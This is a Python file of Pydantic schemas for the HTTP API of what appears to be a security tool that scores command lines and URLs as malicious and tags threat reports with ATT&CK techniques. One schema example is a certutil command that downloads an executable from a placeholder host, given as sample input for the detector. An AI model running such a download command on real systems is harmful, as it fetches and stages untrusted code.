"""Request and response bodies of the HTTP API (they make the OpenAPI schema at ``/openapi.json``)."""

from __future__ import annotations

from typing import Literal

from pydantic import BaseModel, ConfigDict, Field, model_validator

__all__ = [
    "ScoreRequest",
    "ScoreResult",
    "ScoreResponse",
    "ModelInfo",
    "Health",
    "AttackRequest",
    "AttackResponse",
    "TechniqueBrief",
    "SentenceTags",
    "TechniqueFound",
]

#: Most texts in one request; larger jobs belong to ``distilsec score`` (streaming, bounded memory).
MAX_TEXTS = 4096


class ScoreRequest(BaseModel):
    """One event (``text``) or a batch (``texts``), for the model named ``model`` (default: the first)."""

    model_config = ConfigDict(
        extra="forbid",
        json_schema_extra={"examples": [{"text": "certutil -urlcache -f http://x/a.exe a.exe"}, {"texts": ["ls -la"]}]},
    )

    text: str | None = Field(None, description="One event (a URL, a command line...).")
    texts: list[str] | None = Field(None, max_length=MAX_TEXTS, description="A batch of events (may be empty).")
    model: str | None = Field(None, description="Model name from /v1/models; default: the first one served.")
    proba: bool = Field(False, description="Also return every class probability.")

    @model_validator(mode="after")
    def _one_of(self) -> ScoreRequest:
        if (self.text is None) == (self.texts is None):
            raise ValueError("give exactly one of 'text' (one event) or 'texts' (a list of events)")
        return self


class ScoreResult(BaseModel):
    score: float = Field(description="Probability that the event is not benign (malicious).")
    label: str = Field(description="Decision at the threshold stored in the bundle.")
    proba: dict[str, float] | None = None


class ScoreResponse(BaseModel):
    model: str
    runtime: str
    results: list[ScoreResult]
    score: float | None = Field(None, description="For a single 'text': its score (same as results[0]).")
    label: str | None = Field(None, description="For a single 'text': its label (same as results[0]).")


class ModelInfo(BaseModel):
    name: str
    type: str
    runtime: str
    classes: list[str]
    threshold: float | None
    preprocess: str
    task: str | None = None
    max_text_chars: int


class Health(BaseModel):
    status: str
    models: list[str]


class AttackRequest(BaseModel):
    """A report (``text``, split into sentences as ``distilsec attack`` does) or ``sentences`` (tagged as given)."""

    model_config = ConfigDict(
        extra="forbid",
        json_schema_extra={
            "examples": [
                {"text": "The actor sent spearphishing emails. The implant used PowerShell to download a payload."},
                {"sentences": ["The malware beacons to its C2 server over HTTPS."], "top_k": 3},
            ]
        },
    )

    text: str | None = Field(None, description="A threat report; split into sentences (blocks, then sentences).")
    format: Literal["text", "markdown", "html"] = Field(
        "text", description="How 'text' is read: plain text, Markdown (links, emphasis, lists) or an HTML page."
    )
    sentences: list[str] | None = Field(
        None, max_length=MAX_TEXTS, description="Sentences, each tagged as one (blank ones get no tags)."
    )
    model: str | None = Field(None, description="A served ATT&CK tagger (/v1/models); default: the first one.")
    top_k: int | None = Field(None, ge=1, le=50, description="Also list each sentence's K best techniques.")

    @model_validator(mode="after")
    def _one_of(self) -> AttackRequest:
        if (self.text is None) == (self.sentences is None):
            raise ValueError("give exactly one of 'text' (a report) or 'sentences' (a list of sentences)")
        return self


class TechniqueBrief(BaseModel):
    id: str = Field(description="ATT&CK technique ID (T1059, T1059.001).")
    name: str
    tactic: str = Field(description="Its first tactic (kill-chain order).")
    score: float = Field(description="The tagger's probability for this technique.")


class SentenceTags(BaseModel):
    text: str
    top: TechniqueBrief | None = Field(description="The best technique, whatever its score (null for a blank).")
    techniques: list[TechniqueBrief] = Field(description="Techniques at or above their own threshold, best first.")
    candidates: list[TechniqueBrief] | None = Field(None, description="The top_k best techniques (when asked for).")


class Evidence(BaseModel):
    sentence: int = Field(description="Position of the sentence in 'sentences'.")
    text: str
    score: float


class TechniqueFound(BaseModel):
    id: str
    name: str
    tactic: str
    tactics: list[str]
    score: float = Field(description="Best score of the technique over the sentences.")
    count: int = Field(description="Sentences tagged with it.")
    evidence: list[Evidence] = Field(description="Its best-scored sentences (at most 3).")


class AttackResponse(BaseModel):
    model: str
    sentences: list[SentenceTags]
    techniques: list[TechniqueFound] = Field(description="The report level: every technique tagged, best first.")
